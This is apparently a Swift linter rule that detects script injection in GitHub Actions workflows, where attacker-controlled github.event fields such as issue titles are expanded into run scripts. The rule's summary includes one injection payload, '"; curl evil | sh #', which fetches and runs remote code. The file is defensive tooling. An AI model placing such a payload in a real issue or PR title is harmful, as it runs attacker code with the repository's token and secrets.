import WardCore
import Yams

/// Flags attacker-controlled `${{ github.event.* }}` values expanded into `run:` scripts (script injection).
struct GitHubScriptInjectionRule: GitHubWorkflowRule {
    /// Contexts an outsider controls: titles, bodies, branch names, commit messages, author fields.
    static let untrusted = ["github.event.issue.title", "github.event.issue.body", "github.event.pull_request.title",
                            "github.event.pull_request.body", "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
                            "github.event.pull_request.head.repo.default_branch", "github.event.comment.body", "github.event.review.body",
                            "github.event.review_comment.body", "github.event.discussion.title", "github.event.discussion.body",
                            "github.event.head_commit.message", "github.event.head_commit.author.", "github.event.commits",
                            "github.event.pages", "github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit.",
                            "github.head_ref"]

    let description = RuleDescription(
        id: "gha-script-injection", title: "Untrusted input in a run script",
        summary: "`${{ }}` is expanded into the script before the shell runs it; a PR title or issue body like `\"; curl evil | sh #` becomes code with the job's token and secrets.",
        kind: .configuration, severity: .high, cwe: [78, 94], owasp: ["A03:2021", "CICD-SEC-4"],
        remediation: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use \"$TITLE\" in the script.",
        triggeringExamples: [workflowExample("on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"triaging\"\n          echo \"↓${{ github.event.issue.title }}\"\n")],
        nonTriggeringExamples: [workflowExample("on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE ${{ github.event.issue.number }}\"\n")])

    func check(workflow: Node, into issues: inout IssueCollector) {
        for step in workflow.workflowSteps {
            var scripts = [step.value("run")].compactMap { $0 }
            if step.value("uses")?.string?.hasPrefix("actions/github-script") == true, let script = step.value("with")?.value("script") { scripts.append(script) }
            for script in scripts {
                for (line, text) in script.scriptLines(in: issues) {
                    for expression in Self.expressions(in: text) where Self.untrusted.contains(where: { expression.contains($0) }) {
                        issues.add(line: line, at: "${{" + expression, detail: expression.trimming(" "))
                    }
                }
            }
        }
    }

    /// The inside of each `${{ … }}`, spaces kept, so the column lookup finds the exact text.
    static func expressions(in text: String) -> [String] {
        var result: [String] = []
        var rest = Substring(text)
        while let open = rest.byteRange(of: "${{"), let close = rest[open.upperBound...].byteRange(of: "}}") {
            result.append(String(rest[open.upperBound..<close.lowerBound]))
            rest = rest[close.upperBound...]
        }
        return result
    }
}
